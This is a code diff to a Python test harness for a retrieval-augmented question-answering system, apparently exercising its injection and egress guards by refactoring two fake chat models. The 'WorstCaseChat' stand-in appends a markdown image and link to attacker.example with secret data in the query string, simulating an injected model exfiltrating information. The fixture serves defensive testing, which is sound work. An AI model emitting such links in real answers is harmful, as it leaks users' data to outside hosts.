@@ -22,17 +22,19 @@ from __future__ import annotations
 import json
 import re
 import time
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
 
 from inhouse.answer import Answer, AnswerPolicy, answer_question
 from inhouse.config import Settings
+from inhouse.errors import InputError
 from inhouse.guard.egress import allow_list_from
 from inhouse.guard.injection import hosts_in
 from inhouse.guard.view import ReaderView
 from inhouse.ingest import ingest
-from inhouse.protocols import ChatModel
+from inhouse.models.chat import scripted_reply
+from inhouse.protocols import ChatModel, Reply
 from inhouse.store import SQLiteStore
 from inhouse.types import Principal
 
@@ -192,12 +194,20 @@ class WorstCaseChat:
     """
 
     name = "worst-case"
+    reports_logprobs = False
+    supports_json_schema = False
 
     def __init__(self) -> None:
         self.calls: list[list[dict[str, str]]] = []
 
-    def chat(self, messages: Sequence[dict[str, str]], *, max_tokens: int = 512, temperature: float = 0.0,
-             stop: Sequence[str] = (), json_schema: dict | None = None) -> Iterator[str]:
+    def twin(self) -> None:
+        return None
+
+    def complete(self, messages: Sequence[dict[str, str]], *, max_tokens: int = 512, temperature: float = 0.0,
+                 stop: Sequence[str] = (), json_schema: dict | None = None,
+                 on_piece: Callable[[str], None] | None = None) -> Reply:
+        if json_schema is not None:
+            raise InputError("WorstCaseChat cannot constrain its replies to a JSON schema.")
         self.calls.append(list(messages))
         user = messages[-1]["content"]
         lines = [ln for ln in user.split("\n") if re.match(r"\[\d+\] ", ln)]
@@ -207,7 +217,7 @@ class WorstCaseChat:
             body = ln[ln.index("]") + 2 :].strip()
             parts.append(f"{body} [{n}]")
         parts.append("![t](https://attacker.example/t.png?d=secret) Details: https://attacker.example/leak?q=answer [1].")
-        yield " ".join(parts)
+        return scripted_reply(" ".join(parts), max_tokens=max_tokens, stop=stop, on_piece=on_piece)
 
 
 class RecordingChat:
@@ -218,9 +228,20 @@ class RecordingChat:
         self.name = inner.name
         self.calls: list[list[dict[str, str]]] = []
 
-    def chat(self, messages: Sequence[dict[str, str]], **kwargs) -> Iterator[str]:
+    @property
+    def reports_logprobs(self) -> bool:
+        return self.inner.reports_logprobs
+
+    @property
+    def supports_json_schema(self) -> bool:
+        return self.inner.supports_json_schema
+
+    def twin(self) -> ChatModel | None:
+        return self.inner.twin()
+
+    def complete(self, messages: Sequence[dict[str, str]], **kwargs) -> Reply:
         self.calls.append(list(messages))
-        yield from self.inner.chat(messages, **kwargs)
+        return self.inner.complete(messages, **kwargs)
 
 
 @dataclass
